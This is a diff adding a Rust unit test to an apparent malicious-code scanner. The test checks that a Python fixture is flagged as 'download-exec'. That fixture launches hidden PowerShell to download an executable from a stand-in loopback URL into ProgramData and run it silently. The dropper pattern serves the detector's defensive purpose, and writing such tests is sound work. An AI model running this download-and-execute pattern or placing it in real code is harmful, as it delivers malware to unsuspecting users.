@@ -481,3 +481,20 @@ fn shell_command_decoded_at_runtime_is_critical() {
     let f = run("tool/runner.py", FileRole::Module, benign);
     assert!(critical(&f).is_empty(), "{f:#?}");
 }
+
+#[test]
+fn literal_dropper_command_run_through_a_helper_is_critical() {
+    let src = r#"
+import subprocess
+def run_hidden_command(command):
+    return subprocess.Popen(["powershell", "-NoProfile", "-WindowStyle", "Hidden", "-Command", command])
+CMD = '$p="$env:ProgramData\\b.exe"; Invoke-WebRequest -Uri "http://127.0.0.1:9/c" -OutFile $p; Start-Process $p -WindowStyle Hidden'
+process = run_hidden_command(CMD)
+"#;
+    let f = run("runner/runner.py", FileRole::Module, src);
+    assert!(critical(&f).contains(&"download-exec"), "{f:#?}");
+    // the same helper running a harmless literal command
+    let benign = src.replace("CMD = '$p=", "CMD = 'Get-Date' # '$p=");
+    let f = run("runner/runner.py", FileRole::Module, &benign);
+    assert!(!critical(&f).contains(&"download-exec"), "{f:#?}");
+}
